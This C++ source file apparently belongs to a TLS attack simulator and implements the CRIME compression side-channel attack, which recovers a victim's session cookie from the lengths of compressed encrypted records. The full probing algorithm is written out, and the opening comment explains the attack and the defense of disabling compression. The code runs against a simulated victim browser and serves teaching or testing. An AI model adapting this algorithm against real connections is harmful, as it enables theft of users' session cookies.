// crime: the length of compressed records leaks their content (Rizzo and Duong 2012, CVE-2012-4929).
// With DEFLATE record compression (RFC 3749) the whole request goes through one LZ77 window, so
// a request body that repeats the text before the cookie ("...Accept: text/html\r\nCookie: "),
// the part of the cookie found so far and a guess is coded with one longer back-reference to the
// Cookie header when the guess is right. Encryption hides the bytes, not the length. The
// attacker's script on a page makes the victim's browser send such requests (the browser adds
// the cookie itself), each on a fresh connection so that no earlier request sits in the
// compressor's window, and reads only the lengths of the records on the wire. Each guess is
// sent twice, "guess + filler" and "filler + guess" (the two-tries method): a wrong guess gives
// the same literals in both, hence the same Huffman codes and the same length; only the right
// one changes what is coded. Its saving is a few bits, which a byte boundary may hide, so a
// round that shows nothing is tried again with the request shifted by characters of other code
// lengths (the padding trick). A CR ends the value. The defense is no compression at all
// (RFC 7457 2.6; TLS 1.3 removed it, RFC 8446 4.1.2).
#include <algorithm>
#include <map>

#include "attack/script.hpp"
#include "attack/victim_exchange.hpp"

namespace sim::attack {

namespace {

// The characters a cookie value is guessed from (the stated alphabet), and CR: the end of the
// header line, which says the value is complete.
constexpr std::string_view kAlphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789=_-\r";
// Characters outside the alphabet and the request's own text: the filler of the two tries.
constexpr std::string_view kFiller = "{}";
// The tries of a round: a lead (characters of various code lengths, which move where byte
// boundaries fall) and the length of the known text repeated before the guess. That length L
// is chosen so that L and L + 1 share a DEFLATE length code (RFC 1951 3.2.5: 17-18, 19-22,
// 23-26, 27-30, 31-34): the right guess then changes the literals only, never the length symbol.
constexpr std::string_view kLeads[] = {"", " ", "#", "QQ", "##", "!*~", "#%&", "  "};
constexpr size_t kAnchorLengths[] = {17, 19, 20, 21, 23, 24, 25, 27, 28, 29, 31, 32};
constexpr int kTries = 24;
constexpr size_t kMaxLength = 64;

class Crime : public BrowserRequestAttack {
 public:
  explicit Crime(const ScenarioOptions& o) : BrowserRequestAttack(o, 8191) {
    won_ = msg("attack.crime.succeeded");
    lost_ = msg("attack.crime.failed");
  }

  std::optional<AttackReport> report(const Trace& t, bool over) const override {
    AttackReport r = make_report(won_, lost_, t, over, succeeded(t), evidence(t));
    set_request_work(r);
    if (r.succeeded == false && !r.stopped_by_alert && analyzed_)
      r.summary = cancelled_       ? msg("attack.crime.cancelled").arg("chars", std::to_string(recovered_.size()))
                  : uncompressed_  ? msg("attack.crime.failed_uncompressed").arg("growth", std::to_string(growth_))
                  : budget_spent_  ? msg("attack.crime.failed_budget").arg("requests", std::to_string(requests_))
                                   : msg("attack.crime.failed_equal_lengths").arg("requests", std::to_string(requests_)).arg("chars", std::to_string(recovered_.size()));
    return r;
  }

 protected:
  // The attacker's own verdict: a cookie recovered character by character, each one the only
  // guess that shortened the record, up to a round where no guess did (the end of the value).
  bool succeeded(const Trace&) const override { return analyzed_ && !recovered_.empty() && ended_ && !cancelled_; }

  std::vector<AttackEvidence> evidence(const Trace&) const override {
    std::vector<AttackEvidence> out;
    if (!analyzed_) return out;
    if (!recovered_.empty()) out.push_back(text_evidence("cookie_recovered", msg("evidence.cookie_recovered"), to_bytes(recovered_)));
    std::string per_char;
    for (uint64_t n : per_char_) per_char += (per_char.empty() ? "" : " ") + std::to_string(n);
    if (!per_char.empty()) out.push_back(text_evidence("requests_per_byte", msg("evidence.requests_per_byte"), to_bytes(per_char)));
    std::string lines;
    for (auto& l : rounds_) lines += l + "\n";
    if (!lines.empty()) out.push_back(text_evidence("round_lengths", msg("evidence.crime_rounds"), to_bytes(lines)));
    return out;
  }

 private:
  // The length of the record that carries the browser's request with `body`, on a fresh
  // connection (a fresh compressor); nullopt when no request came.
  std::optional<size_t> request_length(const VictimBrowser& browser, const ServerConfig& sc, const std::string& body,
                                       Progress& progress) {
    Exchange x = request(browser, sc, "/", body, progress);
    for (const Bytes& r : x.client_records)
      if (record_type(r) == uint8_t(ContentType::application_data)) return r.size();
    return std::nullopt;
  }

  void run(Progress& progress) override {
    analyzed_ = true;
    ClientConfig cc = client_config(opts_);
    ServerConfig sc = server_config(opts_);
    VictimBrowser browser(cc);  // holds the cookie; the attacker only chooses the requests
    uint64_t budget = opts_.query_budget ? opts_.query_budget : uint64_t(2 * kAlphabet.size() * kTries * kMaxLength);
    if (opts_.query_budget) progress.set_total(budget);  // else unknown: the cookie's length is
    // Is there compression at all? 48 repeated bytes more in the body cost a few bytes compressed,
    // 48 without compression: then no length can depend on a guess.
    if (progress.cancelled()) return;
    auto plain = request_length(browser, sc, "", progress), repeated = request_length(browser, sc, std::string(48, 'A'), progress);
    if (!plain || !repeated) return;
    growth_ = *repeated - *plain;
    if (growth_ >= 48) {
      uncompressed_ = true;
      return;
    }
    // The guesses go in the body, after the headers: there only the right guess can extend a
    // match (with the Cookie header), where in the path ": " + a guess also matches the later
    // headers ("Host: www...") and the path cannot hold the CR that ends the value.
    const std::string head = VictimBrowser::head_before_cookie(browser.host(), "/", "");
    struct Lengths {
      size_t first = 0, second = 0;
    };
    for (;;) {
      if (recovered_.size() >= kMaxLength) return;
      std::string candidates(kAlphabet);
      std::map<char, Lengths> last;  // the last try's lengths, for the evidence
      std::optional<char> winner;
      uint64_t before = requests_;
      for (int i = 0; i < kTries && !winner; ++i) {
        std::string known = head + recovered_;
        size_t an = kAnchorLengths[size_t(i) % std::size(kAnchorLengths)];
        std::string probe = std::string(kLeads[size_t(i) % std::size(kLeads)]) + known.substr(known.size() - std::min(an, known.size()));
        std::string differ;
        last.clear();
        for (char g : candidates) {
          if (progress.cancelled()) return;
          if (requests_ + 2 > budget) {
            budget_spent_ = true;
            return;
          }
          auto a = request_length(browser, sc, probe + g + std::string(kFiller), progress);
          auto b = request_length(browser, sc, probe + std::string(kFiller) + g, progress);
          if (!a || !b) return;  // no request came: nothing to measure
          last[g] = {*a, *b};
          // A wrong guess puts the same literals in both tries, in another order: the same
          // code, the same length. The right one turns a literal into a longer match.
          if (*a != *b) differ += g;
        }
        if (differ.size() == 1) winner = differ[0];
        else if (differ.size() > 1) candidates = differ;  // a tie: only these go on to the next try
      }
      rounds_.push_back(round_line(winner, last));
      if (!winner) return;
      per_char_.push_back(requests_ - before);
      if (*winner == '\r') {
        ended_ = true;
        return;
      }
      recovered_ += *winner;
      progress.set_partial(recovered_);
    }
  }

  static std::string shown(char g) { return g == '\r' ? std::string("\\r") : std::string(1, g); }

  // One round as data: the winning guess with its two lengths, then the others' range.
  template <class M>
  std::string round_line(std::optional<char> winner, const M& lengths) const {
    std::string line = recovered_ + (winner ? shown(*winner) : std::string("?")) + "  ";
    size_t lo = SIZE_MAX, hi = 0;
    for (auto& [g, l] : lengths) {
      if (winner && g == *winner) {
        line += "'" + shown(g) + "' " + std::to_string(l.first) + " != " + std::to_string(l.second) + "; ";
        continue;
      }
      lo = std::min({lo, l.first, l.second});
      hi = std::max({hi, l.first, l.second});
    }
    if (hi) line += "* " + std::to_string(lo) + (lo == hi ? "" : ".." + std::to_string(hi));
    return line;
  }

  bool analyzed_ = false, ended_ = false, budget_spent_ = false;
  bool uncompressed_ = false;
  size_t growth_ = 0;
  std::string recovered_;
  std::vector<uint64_t> per_char_;
  std::vector<std::string> rounds_;
};

}  // namespace

std::shared_ptr<Attacker> crime(const ScenarioOptions& o) { return std::make_shared<Crime>(o); }

}  // namespace sim::attack
